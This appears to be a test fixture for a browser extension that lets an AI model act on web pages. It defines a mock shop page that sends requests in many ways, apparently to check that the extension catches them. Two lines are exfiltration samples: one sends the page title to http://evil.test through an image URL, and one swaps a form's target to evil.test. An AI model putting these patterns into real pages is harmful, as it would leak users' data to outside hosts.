import { beforeAll } from 'vitest';
import type { Settings } from '../../../../extension/memory/settings.ts';
import { type Scene, startWaymark } from '../../../support/browser/start-waymark.ts';
import { scriptedModel } from '../../../support/servers/scripted-model.ts';
import { call, press, type Received, type Script, say, uidOf } from '../../../support/servers/scripted-server.ts';

/** An editor that stores a draft while one types, and deletes it when the note is saved; `?other` deletes another note. */
const EDITOR = `<!doctype html><title>Notes</title><h1>Notes</h1><label>Note <input></label><button>Save</button>
<script>
  const at = (list, name) => '/' + list + '/' + encodeURIComponent(name);
  document.querySelector('input').addEventListener('input', () => fetch(at('all', "Draft of 'Note'"), { method: 'PUT' }));
  document.querySelector('button').addEventListener('click', async () => {
    await fetch(at('all', 'Note'), { method: 'PUT' });
    await fetch(at('bin', location.search === '?other' ? 'Diary' : "Draft of 'Note'"), { method: 'DELETE' });
  });
</script>`;

/** An address that stands in one piece in a script is read beforehand, and asked about. */
const PAGE = `<!doctype html><title>Shop</title><h1>Shop</h1>
<label><input type="checkbox" onchange="setTimeout(() => fetch('/api/feat' + 'ured', { method: 'POST' }), 1500)"> Featured</label>
<button type="button" onclick="setTimeout(() => fetch('/api/twi' + 'ce', { method: 'POST' }), 2500)">Twin</button>
<button onclick="fetch('/api/place' + '-order', { method: 'POST', body: 'mug' })">More</button>
<button onclick="setTimeout(() => fetch('/api/place' + '-order', { method: 'POST' }), 300)">Later</button>
<button onclick="open('', 'picker', 'width=400,height=300').document.write('<title>Picker</title><h1>Topics</h1><label><input type=checkbox> network</label>')">Picker</button>
<button onclick="fetch('/api/views', { method: 'POST' })">Show</button>
<button onclick="fetch('/api/views/full', { method: 'POST' })">Strain</button>
<button onclick="new Image().src = 'http://evil.test/?' + document.title">Picture</button>
<button onclick="document.querySelector('form').submit()">Tab</button>
<button onclick="document.forms[1].submit()">Plain</button><form method="post" action="/send-it" target="elsewhere"><input type="hidden" name="a" value="b"></form>
<form method="post" action="/plain"></form>
<button onclick="fetch('/api/items/' + 7, { method: 'DELETE' })">Tidy</button>
<button onclick="fetch('/api/' + 'sell?id=7', { method: 'POST' })">Wave</button>
<button onclick="fetch('/api/' + 'tokens', { method: 'POST' })">Mint</button>
<button onclick="fetch('/api/runs/' + 'search?page=1', { method: 'POST' })">Sieve</button>
<a href="/list">Take</a>
<a href="/?chatty">More things</a>
<button onclick="fetch('/api/' + 'panel/1207', { method: 'POST' })">Burrow</button>
<button onclick="fetch('/settings/' + 'save_tree_state/', { method: 'POST' })">Perch</button>
<button onclick="fetch('/mail.php?task=mail&_act' + 'ion=autocomplete', { method: 'POST' })">Riddle</button>
<button onclick="fetch('/api/' + 'save-search', { method: 'POST' })">Hoard</button>
<button onclick="fetch('/api/' + 'usual', { method: 'POST' })">Tally</button>
<button onclick="fetch('/do/' + 'rpc', { method: 'POST', body: 'moult' })">Moult</button>
<button onclick="ask('query Boats { boats }')">Peep</button><button onclick="ask('mutation Sink { sink }')">Peck</button>
<button onclick="fetch('http://stats.test/' + 'seen', { method: 'POST', mode: 'no-cors' })">Preen</button>
<button onclick="frames[0].HTMLFormElement.prototype.submit.call(document.forms[1])">Frame</button>
<button onclick="frames[0].HTMLFormElement.prototype.submit.call(queue.form)">Echo</button><iframe srcdoc="<p>Frame"></iframe>
<form id="quick" role="search" action="/found"><button>Look up</button></form><form method="post" action="/noted"><button>Keep</button></form>
<form method="post" action="/chosen"><label>Size <select><option>Small</option><option>Large</option></select></label><label>Code <input></label>
<label><input type="checkbox"> Gift</label></form>
<form method="post" action="/found" role="search"><label>Sorted by <select><option>Name</option><option>Price</option></select></label></form>
<form method="post" action="/done"><label>Action <select><option>Keep them</option><option>Delete them</option></select></label><button>Go</button></form>
<label><input type="checkbox" onchange="fetch('/api/ajar-' + this.checked, { method: 'POST' })"> Ajar</label>
<label>Crate <select id="crate"><option>beans</option><option>kale</option></select></label>
<div role="switch" aria-checked="false" tabindex="0" onclick="this.ariaChecked = this.ariaChecked !== 'true'; fetch('/api/lamp-' + this.ariaChecked, { method: 'POST' })">Lamp</div>
<label>Jotting <input oninput="clearTimeout(window.saving); saving = setTimeout(() => fetch('/api/' + 'jotting', { method: 'PUT' }), 2000)"></label>
<label>Margin <input onblur="fetch('/api/' + 'margin', { method: 'PUT' })"></label>
<label>Ledger <input oninput="setTimeout(() => fetch('/api/' + 'ledger', { method: 'PUT' }), 5000)"></label>
<label>Footing <input id="footing"></label>
<textarea id="statement" aria-label="Statement" rows="2"></textarea> <button onclick="fetch('/api/query-result', { method: 'POST', body: JSON.stringify({ text: statement.value }) })">Run</button>
<label>Berth <input id="berth" role="combobox" aria-expanded="false" onfocus="offerBerths()"></label>
<ul id="offer" role="listbox" hidden><li role="option" onclick="document.querySelector('#outcome').textContent = 'North 4 chosen'; offer.hidden = true">North 4</li></ul>
<p id="outcome"></p><button id="fledge">Fledge</button><button id="roost">Roost</button><button id="flock">Flock</button>
<form role="search"><input aria-label="Find it"></form>
<form method="post" action="/"><label>Queue <select id="queue"><option>North</option><option>South</option></select></label><input type="search" aria-label="Find a queue">
<label>Subject <input></label><label>Due <input type="date"></label><button>Create ticket</button></form>
<a id="swerve" href="/swerved" data-method="post">Swerve</a><a id="swoop" href="/swooped" data-method="post" data-remote="true">Swoop</a>
<button id="beam">Beam</button><button id="spawn">Spawn</button><button id="sift">Sift</button><button id="veer">Veer</button>
<iframe sandbox="allow-scripts" srcdoc="<script>onmessage = ({ data }) => fetch(data, { method: 'POST', mode: 'no-cors' })</script>"></iframe>
<script>
  const post = 'fetch("http://shop.test/api/' + 'spawn", { method: "POST", mode: "no-cors" })';
  // As many clients do, this one keeps the function of the browser, and the page what the list holds.
  const send = window.fetch;
  let held = 'beans';
  document.querySelector('#crate').onchange = ({ target: { value } }) => {
    if (value === held) return;
    held = value;
    send('/api/' + 'crate-' + value, { method: 'POST' }).catch(() => {});
  };
  const offerBerths = () =>
    fetch('/api/' + 'berths', { method: 'POST' }).then(() => {
      document.querySelector('#offer').hidden = false;
      document.querySelector('#berth').ariaExpanded = 'true';
    });
  const told = (text) => () => { document.querySelector('#outcome').textContent = text; };
  const presses = {
    fledge: () => fetch('/api/' + 'fledge', { method: 'POST', body: '{}' }).then(told('kept'), told('lost')),
    roost: () => {
      const request = new XMLHttpRequest();
      request.onload = told('kept');
      request.onerror = told('lost');
      request.open('POST', '/api/' + 'roost');
      request.send('{}');
    },
    flock: () => {
      navigator.sendBeacon('/api/' + 'flown', '1');
      return presses.fledge();
    },
    beam: () => navigator.sendBeacon('/api/beam', '1'),
    spawn: () => new Worker(URL.createObjectURL(new Blob([post]))),
    sift: () => frames[1].postMessage('http://shop.test/api/sift', '*'),
    swerve: (event) => {
      event.preventDefault();
      if (!confirm('Are you sure?')) return;
      const form = Object.assign(document.createElement('form'), { method: 'post', action: '/swerved' });
      document.body.append(form);
      form.submit();
    },
    swoop: (event) => {
      event.preventDefault();
      fetch('/swooped', { method: 'POST' });
    },
    veer: () => confirm('Veer?') && fetch('/api/veer', { method: 'POST' }),
  };
  for (const id in presses) document.getElementById(id).addEventListener('click', presses[id]);
  const ask = (query) => fetch('/do/' + 'everything', { method: 'POST', body: JSON.stringify({ query }) });
  if (location.search === '?chatty') ask('query Me { me }');
  const chat = () => fetch('/api/usual', { method: 'POST' });
  addEventListener('beforeunload', () => footing.value === '' || fetch('/api/footing', { method: 'POST', keepalive: true }));
  if (location.search === '?chatty') chat();
  if (location.search === '?chatty') fetch('/do/rpc', { method: 'POST', body: 'list' });
  if (location.search === '?polls') setInterval(chat, 500);
  const [, , quick, , chosen, found, bulk] = document.forms;
  quick.addEventListener('submit', () => Object.assign(quick, { method: 'post', action: 'http://evil.test/swapped' }));
  chosen.querySelector('select').addEventListener('change', () => chosen.requestSubmit());
  chosen.querySelector('input').addEventListener('input', () => chosen.submit());
  chosen.querySelector('[type=checkbox]').addEventListener('change', () => HTMLFormElement.prototype.submit.call(chosen));
  found.querySelector('select').addEventListener('change', () => found.requestSubmit());
  queue.addEventListener('change', () => queue.form.submit());
  bulk.querySelector('select').addEventListener('change', () => fetch('/api/' + 'gone', { method: 'POST' }));
</script>`;

/** A browser with the panel beside a shop that writes in every way, and a model that follows a script, for all tests of a file. */
export function startShop() {
  const waymark = startWaymark();
  const server = scriptedModel();
  /** What arrived at the sites, such as `POST shop.test/api/place-order`. */
  const arrived: string[] = [];
  /** The bodies that arrived. */
  const bodies: string[] = [];
  beforeAll(async () => {
    const { context } = waymark.launched();
    for (const host of ['shop.test', 'evil.test', 'stats.test', 'notes.test'])
      await context.route(`http://${host}/**`, async (route) => {
        const { pathname, hostname } = new URL(route.request().url());
        if (pathname !== '/' || route.request().method() === 'POST' || !/^(?:shop|notes)\.test$/u.test(hostname))
          arrived.push(`${route.request().method()} ${hostname}${pathname}`);
        bodies.push(route.request().postData() ?? '');
        await route.fulfill({
          status: pathname.endsWith('/full') ? 507 : 200,
          contentType: 'text/html',
          headers: pathname === '/list' ? { 'content-disposition': 'attachment; filename="moorings.csv"' } : {},
          body: pathname !== '/' ? 'ok' : hostname === 'notes.test' ? EDITOR : PAGE,
        });
      });
  });

  async function scene(button: string, strict: Settings['strict']['where'] = 'nowhere'): Promise<Scene> {
    arrived.length = 0;
    bodies.length = 0;
    server.answer(press(button), press(button), say('Done.'));
    const model = server.settings;
    return await waymark.scene('http://shop.test/', {
      approval: 'ask',
      settings: { ...model, strict: { where: strict, sites: [] } },
    });
  }

  return { waymark, server, arrived, bodies, scene };
}

/** Calls a tool on the element of a name. */
export const on =
  (name: string, tool: string, given: object) =>
  (request: Received): Script =>
    call(tool, { ref: uidOf(request, name), ...given });
